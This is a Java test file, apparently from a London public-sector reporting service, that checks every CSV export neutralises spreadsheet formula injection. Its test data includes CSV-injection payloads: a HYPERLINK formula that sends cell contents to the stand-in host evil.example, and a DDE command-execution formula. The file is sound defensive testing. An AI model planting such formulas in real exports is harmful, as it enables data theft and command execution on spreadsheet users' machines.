package uk.gov.london.vru.reliability;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static uk.gov.london.vru.testsupport.Api.api;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import java.util.function.Supplier;
import java.util.regex.Pattern;

import jakarta.inject.Inject;

import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import uk.gov.london.vru.common.CsvCells;
import uk.gov.london.vru.framework.ReleaseDocument;
import uk.gov.london.vru.framework.ReleaseLoader;
import uk.gov.london.vru.framework.ReleaseStatus;
import uk.gov.london.vru.testsupport.Api;
import uk.gov.london.vru.testsupport.Organisations;
import uk.gov.london.vru.testsupport.Programmes;
import uk.gov.london.vru.testsupport.Tokens;

/**
 * Every CSV the service exports is safe to open in a spreadsheet: text that a spreadsheet would run as a formula
 * (a cell starting with =, +, -, @, a tab or a carriage return) is written with a leading quote. The exports are
 * found in the contract (every operation that produces {@code text/csv}), so a new one must be added here.
 */
@QuarkusTest
class CsvExportsTest {

    /** Text a spreadsheet would take as a formula. */
    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+1",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0");
    /** A number as the service writes one: a spreadsheet reads it as a number, never as a formula. */
    static final Pattern NUMBER = Pattern.compile("-?\\d+(\\.\\d+)?");

    @Inject
    ReleaseLoader loader;

    @Test
    void theNeutraliserQuotesEveryFormulaAndLeavesOtherTextAlone() {
        for (String formula : FORMULAS) {
            assertEquals("'" + formula, CsvCells.neutralise(formula));
        }
        assertEquals("Hackney Youth Mentoring", CsvCells.neutralise("Hackney Youth Mentoring"));
        assertEquals("", CsvCells.neutralise(null));
    }

    @Test
    void noExportedCellIsAFormula() throws Exception {
        // Text that reaches the exports: a release's titles and a programme's title.
        String version = "0." + ThreadLocalRandom.current().nextInt(1, 1_000_000) + ".0";
        loader.load(releaseWithFormulas(version), ReleaseStatus.PUBLISHED);
        String organisation = Organisations.createPartner();
        String partner = Tokens.partner(organisation);
        Map<String, Object> registration = Programmes.registration(FORMULAS.get(0) + " " + UUID.randomUUID(),
                List.of(Programmes.outcome("RH-I01", "M-POLICE-RECORDED-GBH", 10),
                        Programmes.outcome("PO-I01", "M-WEMWBS", 50)));
        String programme = api().auth().oauth2(partner).contentType("application/json").body(registration)
                .post("/api/v1/programmes").then().statusCode(201).extract().path("id");
        api().auth().oauth2(partner).post("/api/v1/programmes/" + programme + "/submit").then().statusCode(200);
        api().auth().oauth2(Tokens.role("commissioner")).contentType("application/json").body("{}")
                .post("/api/v1/programmes/" + programme + "/approve").then().statusCode(200);
        String period = "2025-26-Q3";
        String quarter = "/api/v1/programmes/" + programme + "/submissions/" + period;
        // A baseline above the value gives a negative change: a number, which must stay a number.
        api().auth().oauth2(partner).contentType("application/json").body(Map.of("measurements", List.of(
                Map.of("outcome", "PO-I01", "measure", "M-WEMWBS", "value", 40, "participants", 12, "baseline", 55,
                        "comment", FORMULAS.get(1))))).put(quarter).then().statusCode(201);
        api().auth().oauth2(partner).post(quarter + "/submit").then().statusCode(200);
        String commissioner = Tokens.role("commissioner");
        api().auth().oauth2(commissioner).contentType("application/json").body("{}").post(quarter + "/accept").then()
                .statusCode(200);

        Map<String, Supplier<Response>> exports = Map.of(
                "GET /api/v1/framework/releases/{version}/outcomes", () -> api().accept("text/csv")
                        .get("/api/v1/framework/releases/" + version + "/outcomes"),
                "GET /api/v1/reports/completeness", () -> api().auth().oauth2(commissioner).accept("text/csv")
                        .queryParam("period", period).get("/api/v1/reports/completeness"),
                "GET /api/v1/reports/results", () -> api().auth().oauth2(commissioner).accept("text/csv")
                        .queryParam("period", period).get("/api/v1/reports/results"),
                "GET /api/v1/reports/public/results", () -> api().accept("text/csv").queryParam("period", period)
                        .get("/api/v1/reports/public/results"));
        assertEquals(csvOperations(), new TreeSet<>(exports.keySet()),
                "every operation that produces text/csv is checked here");

        List<String> unsafe = new ArrayList<>();
        int cells = 0;
        int neutralised = 0;
        for (Map.Entry<String, Supplier<Response>> export : exports.entrySet()) {
            Response response = export.getValue().get();
            response.then().statusCode(200).contentType(org.hamcrest.Matchers.startsWith("text/csv"));
            for (List<String> row : rows(response.asString())) {
                for (String cell : row) {
                    cells++;
                    if (cell.startsWith("'")) {
                        neutralised++;
                    }
                    if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !NUMBER.matcher(cell).matches()) {
                        unsafe.add(export.getKey() + ": " + cell);
                    }
                }
            }
        }
        assertEquals(List.of(), unsafe, "cells a spreadsheet would run as formulas");
        assertTrue(neutralised >= 4, "the formulas planted in a release and a programme were exported, quoted: "
                + neutralised + " of " + cells + " cells");
    }

    /** The operations whose responses the contract says may be text/csv. */
    private static Set<String> csvOperations() throws Exception {
        JsonNode contract = new YAMLMapper().readTree(Api.CONTRACT.toFile());
        Set<String> operations = new TreeSet<>();
        contract.get("paths").fields().forEachRemaining(path -> path.getValue().fields().forEachRemaining(op -> {
            if (op.getValue().path("responses").toString().contains("\"text/csv\"")) {
                operations.add(op.getKey().toUpperCase() + " " + path.getKey());
            }
        }));
        assertFalse(operations.isEmpty());
        return operations;
    }

    private static List<List<String>> rows(String csv) throws Exception {
        CsvMapper mapper = new CsvMapper().enable(CsvParser.Feature.WRAP_AS_ARRAY);
        List<List<String>> rows = new ArrayList<>();
        try (MappingIterator<List<String>> it = mapper.readerForListOf(String.class).readValues(csv)) {
            it.forEachRemaining(rows::add);
        }
        return rows;
    }

    /** A one-outcome release whose every text is a formula. */
    private static ReleaseDocument releaseWithFormulas(String version) {
        var outcome = new ReleaseDocument.ProgrammeOutcome("ZA-I01", FORMULAS.get(2), null, null, null);
        var hlo = new ReleaseDocument.HighLevelOutcome("ZA-H01", ReleaseDocument.Level.INDIVIDUAL, FORMULAS.get(3),
                FORMULAS.get(0), null, List.of(outcome), null);
        var area = new ReleaseDocument.PriorityArea("ZA", 1, FORMULAS.get(4), null, FORMULAS.get(6), null, null,
                List.of(hlo), null, null);
        return new ReleaseDocument(version, "CSV formulas " + version, null, java.time.LocalDate.of(2026, 1, 1), null,
                null, null, List.of(new ReleaseDocument.ImpactGoal("IG1", FORMULAS.get(5), null, null)), List.of(area),
                null, null, null, null);
    }
}
